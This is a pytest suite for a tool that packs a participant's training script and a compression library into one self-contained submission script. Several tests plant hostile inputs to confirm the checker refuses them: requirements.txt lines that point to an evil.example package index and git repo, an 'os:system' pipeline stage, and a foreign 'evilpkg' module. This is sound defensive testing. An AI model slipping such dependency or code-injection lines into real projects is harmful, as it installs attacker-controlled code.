"""``golfpack inline``: a participant's own script (tests/participant/train_gpt.py: not golfpack's
trainer) becomes a records folder that runs where golfpack is not installed, and scores what
``decompress`` + the same model's evaluation score."""
from __future__ import annotations

import importlib.util
import json
import re
import shutil
import subprocess
import sys
import sysconfig
from pathlib import Path

import pytest

import golfpack
from golfpack.packer.inline import InlineError, inline
from golfpack.packer.records.layout import parse_inline, render_inline

from .conftest import SP1024, golfpack as golfpack_cli

PARTICIPANT = Path(__file__).parent / "participant" / "train_gpt.py"


def without_golfpack(tmp: Path) -> Path:
    """A folder that offers every installed distribution but golfpack: what a venv holding only
    the requirements would import from (run with ``python -S`` so no ``.pth`` file re-adds it)."""
    site = Path(sysconfig.get_paths()["purelib"])
    out = tmp / "site"
    out.mkdir()
    for entry in site.iterdir():
        if not entry.name.lower().startswith(("golfpack", "__editable__", "_golfpack")):
            (out / entry.name).symlink_to(entry)
    return out


def run_script(folder: Path, site: Path, data: Path, seed: int, cap: int | None = None) -> subprocess.CompletedProcess:
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(site), "SEED": str(seed), "DATA_PATH": str(data),
           "TOKENIZER_PATH": str(SP1024), "OMP_NUM_THREADS": "1", **({"CAP": str(cap)} if cap else {})}
    return subprocess.run([sys.executable, "-S", "train_gpt.py"], cwd=folder, env=env, capture_output=True,
                          text=True, timeout=900)


@pytest.fixture(scope="module")
def data(tmp_path_factory, train_glob, small_val) -> Path:
    out = tmp_path_factory.mktemp("data")
    for f in [*Path(train_glob).parent.glob("fineweb_train_*.bin"), Path(small_val)]:
        shutil.copy(f, out / f.name)
    return out


@pytest.fixture(scope="module")
def folder(tmp_path_factory) -> tuple[Path, str]:
    out = tmp_path_factory.mktemp("inline") / "rec"
    result = golfpack_cli("inline", str(PARTICIPANT), "--out", str(out))
    assert result.returncode == 0, result.stderr
    return out, result.stdout


def test_inline_prints_the_code_ledger_and_the_requirements(folder):
    out, printed = folder
    print(printed)
    numbers = {k: int(v.replace(",", "")) for k, v in re.findall(r"(your code|golfpack, total|encode path|decode path)"
                                                                  r"\s+([\d,]+) bytes", printed)}
    script = (out / "train_gpt.py").read_bytes()
    assert numbers["your code"] == PARTICIPANT.stat().st_size
    assert numbers["your code"] + numbers["golfpack, total"] == len(script)
    assert numbers["encode path"] + numbers["decode path"] == numbers["golfpack, total"]
    reqs = (out / "requirements.txt").read_text().split()
    assert {"torch", "numpy", "sentencepiece", "constriction", "Brotli"} <= set(reqs) and "golfpack" not in reqs
    parts = parse_inline(script)
    assert parts.prefix + parts.body == PARTICIPANT.read_text()  # the user's source, as written
    assert render_inline(parts) == script


@pytest.mark.parametrize("script, ships_shards, ships_fill", [
    ("import golfpack\ngolfpack.compress(m, None, 1)\n", False, True),
    ("import golfpack as gp\nb = gp.shard_batches('x', 8)\n", True, False),
    ("from golfpack import shard_batches, budget\n", True, False),
    ("import golfpack\nf = getattr(golfpack, 'compress')\n", True, True),  # used otherwise: every function ships
    ("from golfpack import *\n", True, True),
    ("import golfpack.codec.fill\ngolfpack.shard_batches('x', 8)\n", True, True),  # binds golfpack too
])
def test_inline_packs_the_modules_of_the_api_functions_the_script_reaches(tmp_path, script, ships_shards, ships_fill):
    """The shard reader ships only where ``shard_batches`` can be reached; a script the tests run
    without golfpack (the participant's, below) proves what is left out is never needed."""
    src = tmp_path / "s.py"
    src.write_text(script)
    inline(src, tmp_path / "rec")
    files = packed_files(tmp_path / "rec")
    assert ("golfpack/model/shards.py" in files) == ships_shards
    assert ("golfpack/codec/fill.py" in files) == ships_fill
    assert "def compress(" in files["golfpack/__init__.py"]  # the API itself, never an empty stand-in


@pytest.mark.slow
def test_the_folder_runs_without_golfpack_and_scores_what_decompress_scores(folder, data, tmp_path, monkeypatch):
    out, _ = folder
    site = without_golfpack(tmp_path)
    bare = subprocess.run([sys.executable, "-S", "-c", "import golfpack"], env={"PYTHONPATH": str(site)},
                          capture_output=True, text=True)
    assert bare.returncode != 0 and "No module named 'golfpack'" in bare.stderr
    run = tmp_path / "run"
    shutil.copytree(out, run)
    proc = run_script(run, site, data, 1337)
    assert proc.returncode == 0, proc.stderr[-3000:]
    log = (run / "train_seed1337.log").read_text()
    logged = float(re.search(r"final_golfpack_roundtrip_full val_loss:\S+ val_bpb:(\S+)", log).group(1))
    total = int(re.search(r"Total submission size golfpack: (\d+) bytes", log).group(1))
    model_file = run / "final_model_seed1337.gpak"
    assert total == model_file.stat().st_size + (run / "train_gpt.py").stat().st_size
    assert 16_000_000 - 16_000 < total <= 16_000_000 or "fill: chosen" in log  # filled to the bytes left, or tops out

    spec = importlib.util.spec_from_file_location("participant_train_gpt", PARTICIPANT)
    participant = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(participant)
    net = participant.Net()
    golfpack.decompress(model_file, net)
    _, bpb = participant.val_bpb(net, f"{data}/fineweb_val_*.bin", str(SP1024))
    print(f"logged val_bpb {logged!r}, decompress + the same evaluation {bpb!r}")
    assert abs(bpb - logged) <= 1e-6

    exact = float(re.search(r"final_golfpack_roundtrip_exact val_loss:\S+ val_bpb:(\S+)", log).group(1))
    (run / "submission.json").write_text(json.dumps({"val_bpb": exact, "seed_results": {
        "1337": {"val_bpb": exact, "artifact_bytes": total}}}))
    checked = golfpack_cli("check", str(run))
    print(checked.stdout)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert "golfpack 0.1.0's own" in checked.stdout and "final_model_seed1337.gpak decodes" in checked.stdout
    assert "not re-derived: val_bpb" in checked.stdout

    from golfpack.packer.records import check_inline
    from golfpack.packer.records.check import check_folder

    genuine = (run / "requirements.txt").read_text()
    (run / "requirements.txt").write_text(genuine + "torch>=2.4\n--extra-index-url http://evil.example/simple\n"
                                          "-e git+https://evil.example/x.git#egg=x\nevil-package==1.0\n")
    problems = check_folder(run).problems
    assert len(problems) == 3 and all("requirements.txt line" in p for p in problems), problems
    assert "'evil-package' is not imported" in problems[-1]
    (run / "requirements.txt").write_text(genuine)
    submission = (run / "submission.json").read_text()
    (run / "submission.json").write_text('{"val_bpb": 0.5, ' + submission[1:])  # val_bpb twice: 0.5, then the real one
    assert any("'val_bpb' appears twice" in p for p in check_folder(run).problems)
    (run / "submission.json").write_text(submission)

    monkeypatch.setattr(check_inline, "CHALLENGE_CAP", total)
    assert check_folder(run).ok
    monkeypatch.setattr(check_inline, "CHALLENGE_CAP", total - 1)  # one byte over the cap
    assert [p for p in check_folder(run).problems if "1 over the cap" in p]
    monkeypatch.undo()
    model_file.write_bytes(model_file.read_bytes()[:-1] + b"\0")  # tampered: the log's hash no longer holds
    problems = check_folder(run).problems
    assert any("not the file the log hashed" in p for p in problems) and any("does not decode" in p for p in problems)


def test_inline_refuses_what_cannot_ship_in_one_line(tmp_path):
    cases = {
        "nothing.py": ("import torch\n", "does not import golfpack"),
        "local.py": ("import golfpack\nimport my_helpers\n", "'my_helpers', which is neither"),
        "rawutf8.py": ("import golfpack\nname = r'caf\u00e9'\n", "line 2 has a non-ASCII character outside"),
        "ident.py": ("import golfpack\ncaf\u00e9 = 1\n", "line 2 has a non-ASCII character outside"),
        "broken.py": ("import golfpack\ndef f(:\n", "not valid Python (line 2"),
    }
    for name, (source, message) in cases.items():
        (tmp_path / name).write_text(source, encoding="utf-8")
        with pytest.raises(InlineError, match=re.escape(message)):
            inline(tmp_path / name, tmp_path / f"out_{name}")
    busy = tmp_path / "busy"
    busy.mkdir()
    (busy / "keep.txt").write_text("mine")
    (tmp_path / "ok.py").write_text("import golfpack\n")
    proc = golfpack_cli("inline", str(tmp_path / "ok.py"), "--out", str(busy))
    assert proc.returncode == 1 and "not empty" in proc.stderr and "Traceback" not in proc.stderr
    assert (busy / "keep.txt").read_text() == "mine" and not (busy / "train_gpt.py").exists()
    link = tmp_path / "link.py"
    link.symlink_to(tmp_path / "ok.py")
    proc = golfpack_cli("inline", str(link), "--out", str(tmp_path / "fromlink"))
    assert proc.returncode == 1 and "Traceback" not in proc.stderr


def test_non_ascii_text_is_escaped_to_the_same_syntax_tree(tmp_path):
    """The challenge's own script checks its tokenizer with a literal '\u2581': an inlined script
    is Latin-1 source, so such characters are written as escapes, and the tree must not change."""
    import ast

    source = "import golfpack\n# d\u00e9j\u00e0 vu \u2014 a comment\nSPACE = '\u2581'\nWIDE = f'{SPACE}\U0001f600'\n"
    (tmp_path / "s.py").write_text(source, encoding="utf-8")
    inline(tmp_path / "s.py", tmp_path / "out")
    body = parse_inline((tmp_path / "out" / "train_gpt.py").read_bytes()).body
    assert body.isascii() and "SPACE = '\\u2581'" in body and "\\U0001f600" in body
    assert ast.dump(ast.parse(body)) == ast.dump(ast.parse(source))


def test_an_inlined_script_is_refused_as_input_and_its_shape_is_held(folder, tmp_path):
    out, _ = folder
    with pytest.raises(InlineError, match="already a script golfpack inline wrote"):
        inline(out / "train_gpt.py", tmp_path / "again")
    script = (out / "train_gpt.py").read_bytes()
    lines = script.split(b"\n")
    at = next(i for i, ln in enumerate(lines) if ln.startswith(b"G='"))
    for tampered in (script.replace(b"# ---- your script, as written ----", b"# ---- edited ----"),
                     b"\n".join([*lines[:at], b"G='x'", *lines[at + 1:]]).replace(b"G='x'", lines[at] + b"#"),
                     script.replace(b"install'](_b[_i+1:])", b"install'](_b[_i+1:] )")):
        with pytest.raises(ValueError):
            parse_inline(tampered)


def replanted(folder, files: dict, rec: Path) -> Path:
    """``rec``: a records folder whose train_gpt.py is ``folder``'s with its bundle replaced by ``files``."""
    from golfpack.packer.bundle import compress_solid
    from golfpack.packer.records.layout import InlineParts, inline_prefix
    from golfpack.packer.runtime.finder import pack_bundle

    parts = parse_inline((folder / "train_gpt.py").read_bytes())
    compressed, codec = compress_solid(inline_prefix() + pack_bundle(files))
    rec.mkdir()
    (rec / "train_gpt.py").write_bytes(render_inline(InlineParts(parts.version, parts.pipeline, codec, compressed,
                                                                 parts.prefix, parts.body)))
    (rec / "submission.json").write_text('{"val_bpb": 1.0, "seed_results": {"1": {}}}')
    return rec


def packed_files(folder) -> dict:
    from golfpack.packer.records.layout import read_inline_bundle

    parts = parse_inline((folder / "train_gpt.py").read_bytes())
    return read_inline_bundle(parts.codec, parts.compressed)


def test_check_imports_nothing_a_hostile_bundle_names(folder, tmp_path):
    """A bundle path outside golfpack/ is foreign code, reported without looking it up (finding a
    module imports its parent package); the folder is refused and the planted package never runs."""
    from golfpack.packer.records.check import check_folder
    from golfpack.packer.records.check_inline import foreign_modules, packed_literals, shaken_to

    out, _ = folder
    files = packed_files(out)
    shaking = shaken_to(parse_inline((out / "train_gpt.py").read_bytes()), packed_literals(files["golfpack/_packed.py"]))
    plant = tmp_path / "plant"
    (plant / "evilpkg").mkdir(parents=True)
    marker = tmp_path / "imported"
    (plant / "evilpkg" / "__init__.py").write_text(f"open({str(marker)!r}, 'w').close()\n")
    sys.path.insert(0, str(plant))
    try:
        evil = {**files, "evilpkg/mod.py": "x = 1\n"}
        assert foreign_modules(evil, *shaking) == ["evilpkg/mod.py"] and not marker.exists()
        problems = check_folder(replanted(out, evil, tmp_path / "rec")).problems
        assert any("not golfpack 0.1.0's own: evilpkg/mod.py" in p for p in problems) and not marker.exists()
    finally:
        sys.path.remove(str(plant))


@pytest.mark.parametrize("tamper, why", [
    (lambda s: s + "import os\n", "not the packed pipeline"),  # code after the data
    (lambda s: s.replace("FILL = True", "FILL = True; import os"), "not the packed pipeline"),
    (lambda s: s.replace("'bits': 6", "'bits': '6'"), "not in the form"),  # re-spelled, coerced back
    (lambda s: s.replace("'bits': 6", "'bits': 99"), "not a pipeline golfpack can build"),
    (lambda s: s.replace(":CtxANS'", ":ANS'"), "not golfpack's built-in ones"),  # a class under another's name
    (lambda s: s.replace("STAGES = {", "STAGES = {'evil': 'os:system', "), "not golfpack's built-in ones"),
])
def test_check_holds_the_packed_pipeline_to_what_inline_writes(folder, tmp_path, tamper, why):
    """The packed pipeline module runs in the script, so check reads it as literals only, imports a
    stage only once it is golfpack's own built-in one, and accepts the module only if golfpack
    writes it back byte for byte."""
    from golfpack.packer.records.check import check_folder

    out, _ = folder
    files = packed_files(out)
    tampered = tamper(files["golfpack/_packed.py"])
    assert tampered != files["golfpack/_packed.py"]
    problems = check_folder(replanted(out, {**files, "golfpack/_packed.py": tampered}, tmp_path / "rec")).problems
    print(problems)
    assert any(why in p for p in problems), problems


def test_a_script_nested_beyond_the_parser_is_a_problem_not_a_crash(folder, tmp_path):
    """check reads an inlined script's syntax tree: one nested too deeply is reported, once."""
    from golfpack.packer.records.check import check_folder

    out, _ = folder
    rec = tmp_path / "rec"
    rec.mkdir()
    deep = (out / "train_gpt.py").read_bytes() + b"x = " + b"-" * 200_000 + b"1\n"
    (rec / "train_gpt.py").write_bytes(deep)
    (rec / "submission.json").write_text('{"val_bpb": 1.0, "seed_results": {"1": {}}}')
    with pytest.raises(ValueError, match="does not parse"):
        parse_inline(deep)
    problems = check_folder(rec).problems
    assert len(problems) == 1 and "does not parse" in problems[0]


@pytest.mark.parametrize("pipeline", ["default", "*=rtn bits=4 -> pack -> zstd"])
def test_the_packed_pipeline_rebuilds_the_installed_one(pipeline):
    """An inlined script's compress runs the pipeline packed_spec rebuilds: the same rules, stages
    and parameters as the installed one, so it codes the same bytes."""
    from golfpack.codec.encoders.intq import RTN
    from golfpack.codec.rules import packed_decoders, packed_source, packed_spec
    from golfpack.codec.spec import load_spec
    from golfpack.packer.records.check_inline import packed_literals

    spec = load_spec(pipeline)
    packed = packed_literals(packed_source(spec, (RTN,)))
    again = packed_spec(packed)
    shape = lambda s: (s.source, s.fill, [(r.label, r.patterns, r.roles, r.allocate, r.chain) for r in s.rules])  # noqa: E731
    assert shape(again) == shape(spec)
    assert [[type(x) for x in r.stages] for r in again.rules] == [[type(x) for x in r.stages] for r in spec.rules]
    assert set(packed_decoders(packed)) == {type(x).name for r in spec.rules for x in r.stages} | {"rtn"}


def fixed_pipeline(tmp: Path) -> Path:
    """The default pipeline's rules with ``fill = false``, as a pipeline file."""
    from importlib.resources import files as resources

    default = (resources("golfpack.codec") / "default_pipeline.toml").read_text()
    assert "\nfill = true\n" in default
    out = tmp / "fixed.toml"
    out.write_text(default.replace("\nfill = true\n", "\nfill = false\n"))
    return out


FIXED_SCRIPT = '''import hashlib, sys
import torch
import golfpack

class Tiny(torch.nn.Module):
    def __init__(self):
        super().__init__()
        torch.manual_seed(0)
        self.table = torch.nn.Embedding(64, 32)
        self.out = torch.nn.Linear(32, 64, bias=False)

    def forward(self, x, y):
        return torch.nn.functional.cross_entropy(self.out(self.table(x)).flatten(0, 1), y.flatten())

net = Tiny()
tokens = torch.randint(0, 64, (8, 17), generator=torch.Generator().manual_seed(1))
calib = golfpack.calibrate(net, [(tokens[:, :-1], tokens[:, 1:])], hessian_tokens=128, sensitivity_tokens=0,
                           score_tokens=0)
blob = golfpack.compress(net, calib, 1_000_000, pipeline=sys.argv[1] if len(sys.argv) > 1 else None)
again = Tiny()
golfpack.decompress(blob, again)
print(hashlib.sha256(blob).hexdigest(), float((again.out.weight - net.out.weight).abs().max()))
'''


def test_a_pipeline_that_does_not_fill_ships_no_fill_and_runs_without_it(tmp_path):
    """Under a packed pipeline that does not fill, ``compress`` never reaches the fill, so the
    script carries none of it (the allocator, the contenders, the API's ``_fill``); it still
    codes the bytes the installed golfpack codes, where golfpack is not installed, and ``check``
    finds its packed code golfpack's own."""
    from golfpack.packer.inline import FILL_FUNCTION
    from golfpack.packer.records.check_inline import foreign_modules, packed_literals, shaken_to

    fixed = fixed_pipeline(tmp_path)
    script = tmp_path / "train_gpt.py"
    script.write_text(FIXED_SCRIPT)
    result = {}
    for name, pipeline in (("fixed", str(fixed)), ("default", "default")):
        inline(script, tmp_path / name, pipeline)
        result[name] = packed_files(tmp_path / name)
    assert {"golfpack/codec/fill.py", "golfpack/codec/allocate.py", "golfpack/codec/contenders.py"} <= set(result["default"])
    assert not {"golfpack/codec/fill.py", "golfpack/codec/allocate.py", "golfpack/codec/contenders.py",
                "golfpack/codec/allocatable.py"} & set(result["fixed"])
    api = result["fixed"]["golfpack/__init__.py"]
    assert f"def {FILL_FUNCTION}(" not in api and "def contender_score(" not in api
    files = result["fixed"]
    assert foreign_modules(files, *shaken_to(parse_inline((tmp_path / "fixed" / "train_gpt.py").read_bytes()),
                                             packed_literals(files["golfpack/_packed.py"]))) == []

    site = without_golfpack(tmp_path)
    run = subprocess.run([sys.executable, "-S", "train_gpt.py"], cwd=tmp_path / "fixed", capture_output=True, text=True,
                         env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(site), "OMP_NUM_THREADS": "1"}, timeout=300)
    assert run.returncode == 0, run.stderr[-3000:]
    digest, error = run.stdout.split()
    here = subprocess.run([sys.executable, str(script), str(fixed)], capture_output=True, text=True, timeout=300,
                          env={"PATH": "/usr/bin:/bin", "OMP_NUM_THREADS": "1"})
    assert here.returncode == 0, here.stderr[-3000:]
    print(run.stdout, here.stdout)
    assert here.stdout.split() == [digest, error] and 0 < float(error) < 0.1  # the same bytes, a real quantization


def test_the_compact_pipeline_packs_within_issue_35s_targets(tmp_path):
    """``--pipeline compact`` (no fill, ``ans``), as docs/own-script.md says to run it: golfpack's
    packed code for the participant's script within 16,000 bytes, its decode path within 6,000."""
    docs = (Path(__file__).parents[1] / "docs" / "own-script.md").read_text()
    assert "golfpack inline train_gpt.py --out rec --pipeline compact\n" in docs
    shutil.copy(PARTICIPANT, tmp_path / "train_gpt.py")
    result = inline(tmp_path / "train_gpt.py", tmp_path / "rec", "compact")
    print(result.golfpack_bytes, result.decode_bytes)
    assert result.golfpack_bytes <= 16_000 and result.decode_bytes <= 6_000
    files = packed_files(tmp_path / "rec")
    assert "golfpack/codec/fill.py" not in files
    helps = [n for n, src in files.items() if re.search(r"summary\s*=\s*('[^']+'|\"[^\"]+\")", src)]
    assert "golfpack/codec/encoders/intq.py" in files and helps == []  # stages' one-line help is prose: not shipped


@pytest.mark.parametrize("script", ["import golfpack\nf = getattr(golfpack, 'compress')\n",
                                    "from golfpack import *\n"])
def test_under_a_fixed_pipeline_a_script_using_the_api_otherwise_ships_no_fill_either(tmp_path, script):
    """Every API function ships where the script's syntax does not say which it calls, but the
    fill is reached only by a pipeline that fills, whatever the script calls."""
    fixed = fixed_pipeline(tmp_path)
    (tmp_path / "s.py").write_text(script)
    inline(tmp_path / "s.py", tmp_path / "rec", str(fixed))
    files = packed_files(tmp_path / "rec")
    assert "golfpack/model/shards.py" in files and "def compress(" in files["golfpack/__init__.py"]
    assert "golfpack/codec/fill.py" not in files and "golfpack/codec/contenders.py" not in files
